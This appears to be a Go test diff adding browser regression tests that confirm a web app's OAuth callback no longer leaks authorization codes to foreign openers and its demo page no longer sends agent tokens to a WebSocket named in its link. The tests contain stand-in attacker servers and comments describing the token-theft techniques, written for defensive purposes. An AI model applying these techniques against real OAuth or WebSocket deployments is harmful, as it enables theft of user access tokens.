@@ -13,7 +13,9 @@ import (
 	"testing"
 	"time"
 
+	"github.com/chromedp/cdproto/target"
 	"github.com/chromedp/chromedp"
+	"github.com/gorilla/websocket"
 	"github.com/prometheus/client_golang/prometheus/testutil"
 
 	"github.com/screenpop/screenpop/bridge"
@@ -519,5 +521,92 @@ func TestBrowser_ClaimsPruned(t *testing.T) {
 	slices.Sort(want)
 	if fmt.Sprint(keys) != fmt.Sprint(want) {
 		t.Fatalf("localStorage keys %q, want %q", keys, want)
+	}
+}
+
+// The OAuth redirect page hands the authorization code to window.opener.
+// Any page can open the Genesys authorize URL with screenpop's public
+// client id, its registered redirect URI and a PKCE challenge of its own:
+// a code posted to such an opener (it used to post with targetOrigin "*")
+// is exchanged, with the verifier, for the agent's Genesys access token.
+// The callback posts only to its own origin and to the allowed origins.
+func TestBrowser_OAuthCallbackPostsOnlyToAllowedOrigins(t *testing.T) {
+	got := openCallbackFrom(t, false)
+	if got != "null" {
+		t.Fatalf("a page on a foreign origin received the OAuth callback message %s", got)
+	}
+	t.Run("AllowedOriginStillGetsIt", func(t *testing.T) {
+		if got := openCallbackFrom(t, true); got == "null" {
+			t.Fatal("the allowed origin (the Dynamics web resource) did not receive the code")
+		}
+	})
+}
+
+// openCallbackFrom opens the callback page from a page on another origin,
+// allowed or not, and returns what that page received (JSON).
+func openCallbackFrom(t *testing.T, allowed bool) string {
+	var callback string
+	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		fmt.Fprintf(w, `<!doctype html><button id="go">go</button><script>
+window.got = null;
+addEventListener('message', function (ev) { window.got = ev.data; });
+document.getElementById('go').onclick = function () { window.w = open(%q, 'x', 'popup'); };
+</script>`, callback)
+	}))
+	defer evil.Close()
+	cfg := Config{}
+	if allowed {
+		cfg.AllowedOrigins = []string{evil.URL}
+	}
+	e := newEnv(t, cfg, newMemStore(), nil)
+	callback = e.base + "/web/oauth-callback.html?code=STOLEN-CODE&state=attacker-state"
+
+	ctx := newBrowser(t)
+	run(t, ctx, chromedp.Navigate(evil.URL+"/"))
+	popups := chromedp.WaitNewTarget(ctx, func(i *target.Info) bool { return i.Type == "page" })
+	run(t, ctx, chromedp.Click(chromedp.CSS(`#go`)))
+	select {
+	case <-popups:
+	case <-time.After(10 * time.Second):
+		t.Fatal("no popup opened")
+	}
+	// The callback page closes itself 300 ms after posting.
+	run(t, ctx, poll(`window.got !== null || (window.w && window.w.closed)`))
+	run(t, ctx, chromedp.Sleep(200*time.Millisecond))
+	return eval[string](t, ctx, `JSON.stringify(window.got)`)
+}
+
+// The demo page connects to its own server only: a link to the real
+// screenpop host naming another socket in its fragment (#ws=…) used to
+// send the token the agent signed in with to that socket.
+func TestBrowser_DemoPageIgnoresASocketNamedInItsLink(t *testing.T) {
+	e := newEnv(t, Config{}, nil, nil)
+	got := make(chan string, 1)
+	up := websocket.Upgrader{CheckOrigin: func(*http.Request) bool { return true }}
+	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		ws, err := up.Upgrade(w, r, nil)
+		if err != nil {
+			return
+		}
+		defer ws.Close()
+		var hello struct{ Token string }
+		if ws.ReadJSON(&hello) == nil {
+			select {
+			case got <- hello.Token:
+			default:
+			}
+		}
+	}))
+	defer evil.Close()
+
+	ctx := newBrowser(t)
+	tok := e.token("agent-link")
+	run(t, ctx, chromedp.Navigate(e.base+"/web/demo.html#ws=ws://"+evil.Listener.Addr().String()+"/v1/ws&token="+tok))
+	run(t, ctx, poll(`document.getElementById('status').dataset.state === 'ready'`))
+	select {
+	case tk := <-got:
+		t.Fatalf("the demo page sent the token %q to the socket named in its link (%s)", tk, evil.URL)
+	default:
 	}
 }
